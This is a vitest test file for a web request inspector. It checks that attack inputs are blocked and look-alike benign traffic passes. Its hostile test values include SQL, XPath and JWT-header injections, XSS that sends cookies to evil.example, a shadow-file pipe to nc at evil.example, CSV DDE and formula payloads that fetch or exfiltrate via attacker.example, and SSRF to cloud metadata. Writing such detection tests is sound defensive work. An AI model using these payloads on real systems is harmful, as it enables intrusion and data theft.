import { describe, expect, it } from 'vitest';
import { createInspector, type InspectRequest } from '../index.js';
import { jsonRequest, queryRequest, ruleIds } from '../testing/requests.js';

/**
 * Blind spots and false alarms a third probe set written apart from the engine found (session 6: 449 attacks,
 * 402 API requests from DevOps, observability, identity, CMS and chat traffic). Each attack with the rule that
 * must now fire, and the benign request beside it that must still pass.
 */
const pl2 = createInspector({ paranoia: 2 });
const q = (v: string, name = 'x') => ruleIds(pl2, queryRequest(v, name));
const passes = (req: InspectRequest) => pl2.inspect(req).blocked === false;
const b64url = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');
const jwt = (header: unknown, claims: unknown = { sub: '1' }) => `${b64url(header)}.${b64url(claims)}.c2lnbmF0dXJl`;
const bearer = (token: string): InspectRequest => ({ method: 'GET', path: '/me', query: '', headers: { host: 'h', authorization: `Bearer ${token}` } });

describe('a JWT header is read before its signature is checked', () => {
  it('kid injection in a bearer token: SQL, traversal', () => {
    expect(ruleIds(pl2, bearer(jwt({ alg: 'HS256', kid: "x' UNION SELECT 'secret'-- -" })))).toContain('sqli.union-select');
    const r = pl2.inspect(bearer(jwt({ alg: 'HS256', kid: '../../../../../../dev/null' })));
    expect(r.blocked).toBe(true);
    expect(r.findings[0]?.location).toBe('header:authorization#jwt-header:/kid');
  });

  it('in a cookie or a parameter too', () => {
    const cookie: InspectRequest = { method: 'GET', path: '/', query: '', headers: { host: 'h', cookie: `session=${jwt({ alg: 'none', kid: '../../etc/passwd' })}` } };
    expect(pl2.inspect(cookie).blocked).toBe(true);
    expect(q(jwt({ alg: 'RS256', jku: 'http://169.254.169.254/latest/meta-data/' }), 'token')).toContain('ssrf.internal-host');
  });

  it('ordinary tokens pass, and the claims are not read (the issuer signed them)', () => {
    expect(passes(bearer(jwt({ alg: 'RS256', typ: 'JWT', kid: 'lk0ZWy0sDH2bSA_hjWYpGVjYc4g' })))).toBe(true);
    expect(passes(bearer(jwt({ alg: 'ES256', kid: '2024-05-01' }, { iss: 'http://localhost:8080/realms/dev', name: "O'Brien" })))).toBe(true);
  });
});

describe('xss: markup after a quote and ">" the page opened', () => {
  it('dangling markup and injected elements after an attribute breakout', () => {
    expect(q(`"><img src='//attacker.example/?`)).toContain('xss.attribute-breakout');
    expect(pl2.inspect(queryRequest(`x' /><form action=https://evil.example>`)).blocked).toBe(true);
    expect(q(`x' /><b>hello</b>`)).toContain('xss.attribute-breakout');
  });

  it("a value's own HTML closes its own attributes", () => {
    expect(passes(jsonRequest('html', '<p>See <a href="https://example.com/docs"><img src="/logo.png"> the docs</a></p>'))).toBe(true);
    expect(passes(jsonRequest('html', '<table style="width:100%"><tr><td style="padding:8px" class="x">Hi</td></tr></table>'))).toBe(true);
  });

  it('an XSLT style sheet processing instruction loads active content', () => {
    expect(q('<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>')).toContain('xss.active-element');
    expect(q('<?xsl-stylesheet?>')).not.toContain('xss.active-element');
  });
});

describe('crlf: a forged log record', () => {
  it('a line break and a timestamp or level in a one-line field', () => {
    const form: InspectRequest = { method: 'POST', path: '/login', query: '', headers: { host: 'h', 'content-type': 'application/x-www-form-urlencoded' }, body: 'username=guest%0d%0a2024-05-01%2012:00:00%20INFO%20Login%20succeeded%20user=admin&password=x' };
    expect(ruleIds(pl2, form)).toContain('crlf.log-injection');
    expect(q('bob\n[ERROR] disk full, deleting /var/data')).toContain('crlf.log-injection');
  });

  it('notes with dated lines, and prose lines starting with "Info:", pass', () => {
    expect(passes(jsonRequest('notes', 'Called the customer.\n2024-05-01 12:00 follow-up scheduled\nInfo: bring the contract'))).toBe(true);
    expect(passes(queryRequest('first line\nInfo: second line'))).toBe(true);
  });
});

describe('Python class pollution', () => {
  it('a key path through __class__ / __init__ / __globals__', () => {
    expect(ruleIds(pl2, jsonRequest('__class__', { __init__: { __globals__: { SECRET_KEY: 'x' } } }))).toContain('proto.python-class-pollution');
    expect(q('polluted', '__class__[__init__][__globals__][app]')).toContain('proto.python-class-pollution');
    expect(q('__class__.__init__.__globals__.app.config.SECRET_KEY')).toContain('proto.python-class-pollution');
  });

  it('a type tag and Python prose pass', () => {
    expect(passes(jsonRequest('__class__', 'Decimal'))).toBe(true);
    expect(passes(jsonRequest('body', 'Log self.__class__.__name__ and call super().__init__() first'))).toBe(true);
  });
});

describe('xpathi: a predicate breakout', () => {
  it.each([`'] | //user/*| a['`, `'] | //*[contains(., 'password')] | //a['`, `x' or '1'='1`, `') | //*`])('%s', (v) => {
    expect(pl2.inspect(queryRequest(v)).blocked).toBe(true);
  });

  it('quoted lists and prose pass', () => {
    expect(passes(jsonRequest('text', `Use ['a', 'b'] or the default list`))).toBe(true);
    expect(passes(jsonRequest('text', `(see 'Terms') and (the 'Privacy' page)`))).toBe(true);
    expect(passes(jsonRequest('template', `{{ ['id'] | join(',') }}`))).toBe(true);
  });
});

describe('rfi: a scheme-relative URL in an include parameter', () => {
  it('module=//evil.example/x', () => {
    expect(q('//evil.example/x', 'module')).toContain('rfi.include-parameter');
  });

  it('a URL under a JSON config object, or in a file-named key, is no include parameter', () => {
    expect(passes({ method: 'POST', path: '/hooks', query: '', headers: { host: 'h', 'content-type': 'application/json' }, body: JSON.stringify({ config: { url: 'https://hooks.example.com/T0/B0' } }) })).toBe(true);
    expect(passes(jsonRequest('default.conf', 'server { location / { proxy_pass https://api.example.com; } }'))).toBe(true);
    expect(passes(queryRequest('//cdn.example.com/app.js', 'src'))).toBe(true);
  });
});

describe('false alarms fixed', () => {
  it('an English command word closing a phrase after " & "', () => {
    expect(passes(jsonRequest('title', 'Version 3.0: dark mode, faster search & more'))).toBe(true);
    expect(q('127.0.0.1 & id')).toContain('cmdi.chained-command');
    expect(q('x & more /etc/passwd')).toContain('cmdi.chained-command');
  });

  it("an SDK User-Agent naming its runtime after ';'", () => {
    const ua = (v: string): InspectRequest => ({ method: 'GET', path: '/', query: '', headers: { host: 'h', 'user-agent': v } });
    expect(passes(ua('sendgrid/6.11.0;python'))).toBe(true);
    expect(ruleIds(pl2, ua("x;python -c 'import os'"))).toContain('cmdi.chained-command');
  });

  it('an operator alone as a filter value; as a name it is still a probe', () => {
    expect(passes(jsonRequest('op', '>='))).toBe(true);
    const form: InspectRequest = { method: 'POST', path: '/', query: '', headers: { host: 'h', 'content-type': 'application/x-www-form-urlencoded' }, body: '%3E%3D' };
    expect(ruleIds(pl2, form)).toContain('sqli.bare-operator');
  });

  it('markdown code spans and quoted characters in prose are not SQL quotes', () => {
    expect(passes(jsonRequest('entry', 'Fixed: titles with `&` showed as `&amp;` in the feed'))).toBe(true);
    expect(passes(jsonRequest('message', `Unexpected token '<', "<!DOCTYPE "... is not valid JSON`))).toBe(true);
    expect(q("x` OR 1=1 -- ")).toContain('sqli.breakout-boolean');
  });

  it("a string literal of the value's own language (PromQL, LogQL) is not a breakout", () => {
    expect(passes(queryRequest('histogram_quantile(0.99, sum(rate(http_request_duration_seconds_bucket{route!~"/healthz|/metrics"}[5m])) by (le))', 'query'))).toBe(true);
    expect(passes(queryRequest('(1 - (node_filesystem_avail_bytes{mountpoint="/",fstype!="tmpfs"} / node_filesystem_size_bytes)) * 100', 'query'))).toBe(true);
    expect(pl2.inspect(queryRequest("1' or '1'='1")).blocked).toBe(true);
    expect(pl2.inspect(queryRequest("x=' or 1=1 -- ")).blocked).toBe(true);
  });

  it('a loopback URL a browser follows (OAuth redirect URI, WebAuthn origin) is weak; one the server fetches is not', () => {
    expect(passes(jsonRequest('redirect_uris', ['https://app.example.com/cb', 'http://localhost:3000/auth/callback']))).toBe(true);
    expect(ruleIds(createInspector({ paranoia: 3 }), jsonRequest('redirect_uri', 'http://127.0.0.1:8080/cb'))).toContain('ssrf.loopback-browser-url');
    expect(pl2.inspect(jsonRequest('webhook_url', 'http://localhost:8080/admin')).blocked).toBe(true);
    expect(pl2.inspect(jsonRequest('redirect_uri', 'http://169.254.169.254/latest/meta-data/')).blocked).toBe(true);
  });

  it('a fenced code block in a message is shown, not run; a breakout in it still counts', () => {
    expect(passes(jsonRequest('content', "Here's the query I ran:\n```sql\nSELECT name, email FROM users WHERE created_at > '2024-01-01' ORDER BY name;\n```\nreturns 42 rows"))).toBe(true);
    expect(passes(jsonRequest('body', 'Install the CLI first:\n\n```bash\ncurl -fsSL https://get.example.com/install.sh | sh\n```\n\nthen run the setup wizard.'))).toBe(true);
    expect(pl2.inspect(jsonRequest('body', "look at this, it breaks the login page:\n```\nadmin' OR 1=1 -- \n```")).blocked).toBe(true);
    // A value that is mostly a fence is code: read as it is.
    expect(pl2.inspect(jsonRequest('body', '```\n; cat /etc/shadow | nc evil.example 4444\n```')).blocked).toBe(true);
    // MySQL's back-tick identifiers are not markdown code spans.
    expect(pl2.inspect(jsonRequest('body', 'ALTER TABLE `mass_mails` CHANGE `receivers` `receivers` ENUM(\'A\',\'B\') CHARACTER SET utf8')).blocked).toBe(true);
  });

  it('a path under a system directory is weak alone; sensitive files are not', () => {
    expect(passes(queryRequest('/var/log/nginx/access.log', 'path'))).toBe(true);
    expect(passes(jsonRequest('mountpoint', '/var/lib/postgresql'))).toBe(true);
    expect(pl2.inspect(queryRequest('/etc/passwd', 'file')).blocked).toBe(true);
    expect(pl2.inspect(queryRequest('../../../../var/log/apache2/access.log', 'file')).blocked).toBe(true);
  });
});

describe('round 4 (WAF-bypass techniques; business APIs)', () => {
  it('framework event bindings are event handlers', () => {
    expect(q(`<input autofocus ng-focus=$event.composedPath()|orderBy:'[].constructor.from([1],alert)'>`)).toContain('xss.event-handler');
    expect(q(`<div x-init="fetch('//evil.example/'+document.cookie)">`)).toContain('xss.event-handler');
    expect(passes(jsonRequest('html', '<div ng-app class="ng-scope">Hello</div>'))).toBe(true);
  });

  it('an injected form: fields without an action (DOM clobbering), or an action on another site', () => {
    expect(ruleIds(pl2, jsonRequest('body', '<form id=appConfig><input name=scriptSrc value=//xss.example/x.js></form>'))).toContain('xss.active-element');
    expect(passes(jsonRequest('code', '<form action="/subscribe" method="post"><input type="email" name="email"><button>Go</button></form>'))).toBe(true);
  });

  it('a network tool after a lone "&" with a host, and a URL followed by a tool option', () => {
    expect(q('127.0.0.1&nslookup cmdi.x7f3.oast.example&', 'host')).toContain('cmdi.chained-command');
    expect(ruleIds(pl2, jsonRequest('url', 'http://attacker.example/shell.php -o /var/www/html/shell.php'))).toContain('cmdi.argument-injection');
    expect(passes(jsonRequest('note', 'See https://example.com/docs -Tom'))).toBe(true);
  });

  it('an encoded dot segment in the request path', () => {
    const get = (path: string): InspectRequest => ({ method: 'GET', path, query: '', headers: { host: 'h' } });
    expect(ruleIds(pl2, get('/api/v1/%2e%2e/actuator/heapdump'))).toContain('traversal.encoded-dot-segment');
    expect(ruleIds(pl2, get('/cgi-bin/.%2e/.%2e/etc/passwd'))).toContain('traversal.encoded-dot-segment');
    expect(passes(get('/files/report%2Eq3.pdf'))).toBe(true);
    expect(passes(get('/users/john%2Esmith/posts'))).toBe(true);
  });

  it('a negotiation header outside its grammar is read', () => {
    const lang = (v: string): InspectRequest => ({ method: 'GET', path: '/i18n/messages', query: '', headers: { host: 'h', 'accept-language': v } });
    expect(pl2.inspect(lang('../../../../etc/passwd%00')).blocked).toBe(true);
    expect(passes(lang('en-US,en;q=0.9,de;q=0.8'))).toBe(true);
    expect(passes({ method: 'GET', path: '/', query: '', headers: { host: 'h', 'sec-ch-ua': '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"', accept: 'text/html,application/xhtml+xml,*/*;q=0.8' } })).toBe(true);
  });

  it('false alarms fixed', () => {
    // A MongoDB query document under a filter parameter: fields with read operators. An operator document standing
    // for a value, or a condition on a secret field, still blocks.
    expect(passes(queryRequest('{"status":{"$in":["active","trial"]},"plan":{"$ne":"free"}}', 'filter'))).toBe(true);
    expect(pl2.inspect(queryRequest('{"$ne": null}', 'filter')).blocked).toBe(true);
    expect(pl2.inspect(queryRequest('{"password":{"$regex":"^a"}}', 'filter')).blocked).toBe(true);
    expect(pl2.inspect(queryRequest('{"status":{"$where":"sleep(5000)"}}', 'filter')).blocked).toBe(true);
    // A search filter grouping its own conditions; a WHERE in a sub-query still counts.
    expect(passes(jsonRequest('filter', "price > 20 AND price < 60 AND (brand = 'Anker' OR brand = 'UGREEN')"))).toBe(true);
    // `SELECT *` without FROM in a subject line; Northwind as a company.
    expect(passes(jsonRequest('subject', 'Re: SELECT * in production?'))).toBe(true);
    expect(passes(jsonRequest('resume', 'Northwind Traders — Software Engineer (2019-2022)'))).toBe(true);
    expect(q('SELECT * FROM Northwind.dbo.Customers')).toContain('sqli.catalog');
    // `<script>` named in a sentence; a script with code after it, or closed, is still one.
    expect(passes(jsonRequest('text', 'Finally got my <script> tag to load after 3 hours, it was a typo in the path'))).toBe(true);
    expect(pl2.inspect(jsonRequest('text', 'hi <script>alert(document.domain)')).blocked).toBe(true);
    // A gamer tag as a path segment; a loopback image in a post's HTML (the reader's browser loads it).
    expect(passes({ method: 'GET', path: '/api/v1/players/~%2ADarkAngel%2A~/stats', query: '', headers: { host: 'h' } })).toBe(true);
    expect(passes(jsonRequest('content', '<p>Photo: <img src="https://localhost/wp-content/uploads/a.jpg" alt="market"></p>'))).toBe(true);
    // Python and shell files are not run by web servers; PHP, JSP and ASP files are.
    const upload = (name: string): InspectRequest => ({ method: 'POST', path: '/upload', query: '', headers: { host: 'h', 'content-type': 'multipart/form-data; boundary=b' }, body: `--b\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b--\r\n` });
    expect(passes(upload('main.py'))).toBe(true);
    expect(pl2.inspect(upload('shell.php')).blocked).toBe(true);
  });
});

describe('round 5 (placements API traffic really has)', () => {
  it('CSV injection: DDE and formulas that send cells to a URL; plain formulas are data', () => {
    const csv = (body: string): InspectRequest => ({ method: 'POST', path: '/import', query: '', headers: { host: 'h', 'content-type': 'text/csv' }, body });
    expect(ruleIds(pl2, csv("name,email\n=cmd|' /C calc'!A1,bob@example.com\n"))).toContain('csv.dde');
    expect(ruleIds(pl2, jsonRequest('company', "+cmd|' /C powershell IEX(wget attacker.example/s.ps1)'!A0"))).toContain('csv.dde');
    expect(ruleIds(pl2, jsonRequest('note', '=DDE("cmd";"/C calc";"!A0")A0'))).toContain('csv.dde');
    expect(ruleIds(pl2, csv('region,revenue\nAPAC,=WEBSERVICE("http://attacker.example/?"&A2&B2)\n'))).toContain('csv.exfiltration');
    expect(ruleIds(pl2, jsonRequest('name', '=IMPORTXML(CONCAT("http://attacker.example/?v=",CONCATENATE(A2:E2)),"//a")'))).toContain('csv.exfiltration');
    expect(passes(jsonRequest('formula', '=SUM(A1:A10)'))).toBe(true);
    expect(passes(jsonRequest('formula', '=HYPERLINK("https://example.com/invoice/42","Invoice 42")'))).toBe(true);
    expect(passes(jsonRequest('formula', '=IF(A1>10,"high","low")'))).toBe(true);
    expect(passes(jsonRequest('text', "Tom's band | 'Live at the Roxy' ! great"))).toBe(true);
  });

  it("a multipart part's Content-Type that is not a media type is read", () => {
    const part = (ct: string): InspectRequest => ({ method: 'POST', path: '/upload', query: '', headers: { host: 'h', 'content-type': 'multipart/form-data; boundary=b' }, body: `--b\r\nContent-Disposition: form-data; name="doc"; filename="scan.gif"\r\nContent-Type: ${ct}\r\n\r\nGIF89a;\r\n--b--\r\n` });
    expect(pl2.inspect(part("image/gif' AND (SELECT 1 FROM (SELECT SLEEP(5))x) AND '1'='1")).blocked).toBe(true);
    expect(pl2.inspect(part('audio/wav;$(sleep 5)')).blocked).toBe(true);
    expect(passes(part('image/gif'))).toBe(true);
  });

  it('brackets in a query or form name nest parameters; they are not T-SQL identifier quotes', () => {
    expect(ruleIds(pl2, { method: 'GET', path: '/invoices', query: 'order%5B%28SELECT%201%20FROM%20pg_sleep%285%29%29%5D=asc', headers: { host: 'h' } })).toContain('sqli.time-function');
    expect(passes({ method: 'GET', path: '/invoices', query: 'filter%5Bstatus%5D%5Bin%5D=paid&sort%5Bcreated_at%5D=desc&page%5Bsize%5D=20', headers: { host: 'h' } })).toBe(true);
  });

  it("an upsert clause after an INSERT's values; Django settings in a template", () => {
    expect(pl2.inspect(jsonRequest('email', "eve@example.net', 'x') ON DUPLICATE KEY UPDATE role='admin'-- -")).blocked).toBe(true);
    expect(ruleIds(pl2, jsonRequest('value', '{{settings.SECRET_KEY}} {{settings.DATABASES}}'))).toContain('ssti.object-traversal');
    expect(passes(jsonRequest('help', 'On duplicate key errors the import stops; update the row and retry.'))).toBe(true);
  });
});

describe('round 5: false alarms in integrations, telemetry and developer tools', () => {
  it('an ellipsis is not a dot-dot segment; `....//` still is', () => {
    expect(passes(jsonRequest('machoFile', '.../AcmeShop.app/AcmeShop'))).toBe(true);
    expect(passes(jsonRequest('message', 'No Activity found to handle Intent { act=VIEW dat=https://pay.example.com/... }'))).toBe(true);
    expect(pl2.inspect(queryRequest('....//....//....//etc/passwd', 'file')).blocked).toBe(true);
  });

  it("SCIM's /.search endpoint; HLS master playlists; sys.path", () => {
    expect(passes({ method: 'POST', path: '/scim/v2/.search', query: '', headers: { host: 'h', 'content-type': 'application/json' }, body: '{"filter":"userName sw \\"j\\""}' })).toBe(true);
    expect(passes(jsonRequest('url', 'https://vod.example/hls/ep_1/master.m3u8?token=-LTKKlpSRG6Lg&exp=1715020000'))).toBe(true);
    expect(ruleIds(pl2, queryRequest("1 UNION SELECT name FROM master..sysdatabases--"))).toContain('sqli.catalog');
  });

  it('jq, XPath and LIKE filters are their own languages', () => {
    expect(passes(jsonRequest('filter', '.items[] | select(.status == "active" and (.tags | index("beta"))) | {id, name}'))).toBe(true);
    expect(passes(jsonRequest('rating', "count(//div[@class='stars']/i[@class='full'])"))).toBe(true);
    expect(passes(jsonRequest('where', "region = 'EU' AND name NOT LIKE '%test%'"))).toBe(true);
    expect(pl2.inspect(queryRequest("x' or name like '%admin%' --")).blocked).toBe(true);
  });

  it('an exception class is reported, not run; a package alone names no class', () => {
    expect(passes(jsonRequest('error', "java.lang.IllegalStateException: Migration didn't properly handle: orders"))).toBe(true);
    expect(passes(jsonRequest('module', 'java.lang'))).toBe(true);
    expect(q('java.lang.Runtime')).toContain('java.dangerous-class');
    expect(q('java.Runtime')).toContain('java.dangerous-class');
  });

  it('stack-trace source locations are not URLs to fetch', () => {
    expect(passes(jsonRequest('stack', 'TypeError: x\n    at ProductScreen (http://localhost:8081/index.bundle?platform=ios&dev=true:142311:42)\n    at renderWithHooks (index.bundle:23011:27)'))).toBe(true);
    expect(passes(jsonRequest('context', 'The relevant error-causing widget was: Row Row:file:///Users/ci/builds/app/lib/tile.dart:71:16'))).toBe(true);
    expect(pl2.inspect(jsonRequest('url', 'file:///etc/passwd')).blocked).toBe(true);
    expect(pl2.inspect(jsonRequest('url', '(http://169.254.169.254/latest/meta-data/:1:1)')).blocked).toBe(true);
  });

  it('a logged prepared statement (placeholders) is a log line; an injection with it is still one', () => {
    expect(passes(jsonRequest('message', 'SELECT * FROM `addresses` WHERE `user_id` = ? AND `deleted` = 0 ORDER BY id'))).toBe(true);
    expect(passes(jsonRequest('db.statement', 'SELECT * FROM orders WHERE customer_id = $1 AND status = $2'))).toBe(true);
    expect(pl2.inspect(queryRequest("1' UNION SELECT password FROM users WHERE id = ?--")).blocked).toBe(true);
  });

  it('a Sheets IMPORTRANGE reads a range in; it sends nothing out', () => {
    expect(passes(jsonRequest('value', '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/1qA2L/edit","Raw!A1:F500")'))).toBe(true);
  });
});
